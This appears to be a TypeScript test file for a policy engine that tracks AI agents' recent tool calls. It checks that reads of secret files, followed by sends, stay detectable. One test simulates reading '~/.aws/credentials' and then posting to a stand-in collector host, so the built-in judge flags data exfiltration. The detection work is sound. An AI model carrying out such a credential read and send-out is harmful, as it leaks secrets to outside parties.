import { describe, expect, it } from 'vitest';
import { compileCondition, type CompiledCheck } from '../../policy/condition.ts';
import { compileRuleset } from '../../policy/engine.ts';
import { MAX_SEQUENCE_ACTIONS, sequenceMatches, type CompiledSequence } from '../../policy/sequence.ts';
import { activePolicy } from '../../../test/fixtures/policies.ts';
import { createBuiltinJudge } from '../builtin-judge.ts';
import { ActionHistory, RECENT_ACTIONS, sequencesToTrack, TRACKED_ACTIONS } from './action-history.ts';

const START = Date.parse('2026-11-23T12:00:00Z');

/** A tenant's sequence, compiled as a policy's `sequence` condition is. */
function sequence(steps: { action: string; path?: string }[], withinSeconds = 600): CompiledSequence {
  const compiled = compileCondition(
    {
      field: 'recent_actions',
      operator: 'sequence',
      value: {
        steps: steps.map(({ action, path }) => ({
          action,
          conditions: path === undefined ? [] : [{ field: 'tool_args', operator: 'matches', value: path }],
        })),
        within_seconds: withinSeconds,
      },
    },
    'some',
  );
  if (!compiled.ok) throw new Error(compiled.fault.description);
  return (compiled.condition as CompiledCheck).sequence as CompiledSequence;
}

const SECRET_READ = sequence([{ action: 'tool:read_file', path: 'secret' }]);
const LIST_THEN_PUSH = sequence([{ action: 'tool:list_dir' }, { action: 'tool:git_push' }]);

function setup(windowMs = 600_000, maxScopes = 10) {
  const clock = { now: START };
  const history = new ActionHistory({ windowMs, maxScopes, now: () => clock.now });
  const does = (scope: string, tool: string, args = '{}', sequences: readonly CompiledSequence[] = []) =>
    history.record(scope, { action: `tool:${tool}`, toolName: tool, toolArgs: args }, sequences);
  return { clock, history, does };
}

describe('ActionHistory: the last actions', () => {
  it('keeps each scope its own allowed calls, inside the window, newest last', () => {
    const { clock, history, does } = setup(100);
    does('a', 'read_file', '{"path":"x"}');
    clock.now += 60;
    does('a', 'http_post');
    does('b', 'search');
    expect(history.recent('a').map((r) => r.tool_name)).toEqual(['read_file', 'http_post']);
    expect(history.recent('b').map((r) => r.tool_name)).toEqual(['search']);
    clock.now += 50;
    expect(history.recent('a').map((r) => r.tool_name)).toEqual(['http_post']);
    expect(history.recent('unknown')).toEqual([]);
  });

  it('is bounded in calls per scope, in argument length and in scopes', () => {
    const { history, does } = setup(60_000, 2);
    for (let i = 0; i < 40; i++) does('a', `t${i}`, 'x'.repeat(10_000));
    const kept = history.recent('a');
    expect(kept).toHaveLength(RECENT_ACTIONS);
    expect(kept.at(-1)?.tool_name).toBe('t39');
    expect(kept[0]?.tool_args.length).toBe(2048);
    does('b', 't');
    does('c', 'n'.repeat(1000));
    expect(history.recent('a')).toEqual([]);
    expect(history.recent('c')[0]).toMatchObject({ action: `tool:${'n'.repeat(295)}`, tool_name: 'n'.repeat(256) });
  });
});

describe('ActionHistory: partial matches of the tracked sequences', () => {
  it('keeps the first step of a sequence however many harmless calls follow it', () => {
    const { clock, history, does } = setup();
    does('s', 'read_file', '{"path":"/srv/secret.yaml"}', [SECRET_READ]);
    for (let i = 0; i < 100; i++) {
      clock.now += 1000;
      does('s', 'search', `{"q":"${i}"}`, [SECRET_READ]);
    }
    const recent = history.recent('s');
    expect(recent).toHaveLength(RECENT_ACTIONS + 1);
    expect(recent[0]?.tool_name).toBe('read_file');
    expect(sequenceMatches(SECRET_READ, recent, clock.now)).toBe(true);
  });

  it('lets no sequence push out another: each keeps its own partial matches', () => {
    const { clock, history, does } = setup();
    const tracked = [SECRET_READ, LIST_THEN_PUSH];
    does('s', 'read_file', '{"path":"/srv/secret.yaml"}', tracked);
    for (let i = 0; i < 200; i++) {
      clock.now += 100;
      does('s', i % 2 === 0 ? 'list_dir' : 'git_push', `{"n":${i}}`, tracked);
    }
    const recent = history.recent('s');
    expect(sequenceMatches(SECRET_READ, recent, clock.now)).toBe(true);
    expect(sequenceMatches(LIST_THEN_PUSH, recent, clock.now)).toBe(true);
    expect(recent.length).toBeLessThanOrEqual(MAX_SEQUENCE_ACTIONS);
  });

  it('keeps an earlier match of several steps when the first step comes again after it', () => {
    const { clock, history, does } = setup();
    const readThenList = sequence([{ action: 'tool:read_file', path: 'secret' }, { action: 'tool:list_dir' }]);
    does('s', 'read_file', '{"path":"secret-1"}', [readThenList]);
    clock.now += 10;
    does('s', 'list_dir', '{}', [readThenList]);
    for (let i = 0; i < 50; i++) {
      clock.now += 10;
      does('s', 'read_file', `{"path":"secret-${i + 2}"}`, [readThenList]);
    }
    expect(sequenceMatches(readThenList, history.recent('s'), clock.now)).toBe(true);
  });

  it('replaces a partial match by one that started later, and forgets one the window left', () => {
    const { clock, history, does } = setup(100_000);
    does('s', 'read_file', '{"path":"secret-old"}', [SECRET_READ]);
    clock.now += 50_000;
    does('s', 'read_file', '{"path":"secret-new"}', [SECRET_READ]);
    for (let i = 0; i < 20; i++) does('s', 'search', '{}', [SECRET_READ]);
    clock.now += 60_000;
    does('s', 'search', '{}', [SECRET_READ]);
    const paths = history.recent('s').map((r) => r.tool_args);
    expect(paths).toContain('{"path":"secret-new"}');
    expect(paths).not.toContain('{"path":"secret-old"}');
    clock.now += 50_000;
    expect(sequenceMatches(SECRET_READ, history.recent('s'), clock.now)).toBe(false);
  });

  it('starts a sequence given for the first time from the last actions, and forgets one no longer given', () => {
    const { clock, history, does } = setup();
    does('s', 'read_file', '{"path":"/srv/secret.yaml"}');
    clock.now += 10;
    // A ruleset that now holds the sequence: the read is among the last actions, so it is known.
    does('s', 'search', '{}', [SECRET_READ]);
    for (let i = 0; i < 30; i++) does('s', 'search', '{}', [SECRET_READ]);
    expect(sequenceMatches(SECRET_READ, history.recent('s'), clock.now)).toBe(true);
    // The sequence removed: its partial match goes, and the read with it.
    does('s', 'search', '{}', []);
    expect(history.recent('s').map((r) => r.tool_name)).not.toContain('read_file');
  });

  it('tracks sequences in the order given while their partial matches fit the bound', () => {
    const { clock, history, does } = setup();
    // 48 one-step sequences fill TRACKED_ACTIONS; the 49th is matched on the last actions only.
    const many = Array.from({ length: TRACKED_ACTIONS + 1 }, (_, i) => sequence([{ action: `tool:t${i}` }]));
    for (let i = 0; i <= TRACKED_ACTIONS; i++) does('s', `t${i}`, '{}', many);
    for (let i = 0; i < RECENT_ACTIONS; i++) does('s', 'search', '{}', many);
    const recent = history.recent('s');
    expect(recent).toHaveLength(MAX_SEQUENCE_ACTIONS);
    expect(sequenceMatches(many[0] as CompiledSequence, recent, clock.now)).toBe(true);
    expect(sequenceMatches(many[TRACKED_ACTIONS - 1] as CompiledSequence, recent, clock.now)).toBe(true);
    expect(sequenceMatches(many[TRACKED_ACTIONS] as CompiledSequence, recent, clock.now)).toBe(false);
  });
});

describe('sequencesToTrack', () => {
  const judge = createBuiltinJudge({ maxTextChars: 65_536, allowedHosts: [] });
  const sequenceRule = (id: string) => ({
    rule_id: id,
    name: id,
    action: 'tool:http_post',
    decision: 'DENY' as const,
    conditions: [
      {
        field: 'recent_actions',
        operator: 'sequence' as const,
        value: { steps: [{ action: 'tool:read_file' }], within_seconds: 60 },
      },
    ],
  });
  const semanticRule = {
    rule_id: 'judged',
    name: 'judged',
    action: 'tool:http_*',
    decision: 'DENY' as const,
    conditions: [{ field: 'tool_args', operator: 'semantic' as const, value: 'DATA_EXFILTRATION' }],
  };

  it("tracks the ruleset's distinct sequences, after the built-in judge's when a rule asks the judge", () => {
    const plain = compileRuleset([activePolicy([sequenceRule('r1'), sequenceRule('r2')])], 1);
    expect(sequencesToTrack(plain, judge).map((s) => s.key)).toEqual([expect.stringMatching(/^sequence:/)]);
    const judged = compileRuleset([activePolicy([sequenceRule('r1'), semanticRule])], 2);
    expect(sequencesToTrack(judged, judge).map((s) => s.key)).toEqual([
      'builtin:sequence.secret_read_then_send',
      expect.stringMatching(/^sequence:/),
    ]);
    expect(sequencesToTrack(null, judge)).toEqual([]);
  });

  it('keeps a credential read for the judge past any number of harmless calls', () => {
    const { clock, history } = setup();
    const tracked = sequencesToTrack(compileRuleset([activePolicy([semanticRule])], 1), judge);
    const read = (path: string) =>
      history.record(
        's',
        { action: 'tool:read_file', toolName: 'read_file', toolArgs: JSON.stringify({ path }) },
        tracked,
      );
    read('~/.aws/credentials');
    for (let i = 0; i < 40; i++) {
      clock.now += 100;
      read(`notes-${i}.md`);
    }
    const args = JSON.stringify({ url: 'https://collector.example.net/in', body: 'report' });
    const verdict = judge.judgeNow({
      text: args,
      intent: 'DATA_EXFILTRATION',
      field: 'tool_args',
      context: { tool_name: 'http_post', tool_args: args, recent_actions: history.recent('s') },
    });
    expect(verdict.evidence.map((e) => e.signal)).toContain('sequence.secret_read_then_send');
  });
});
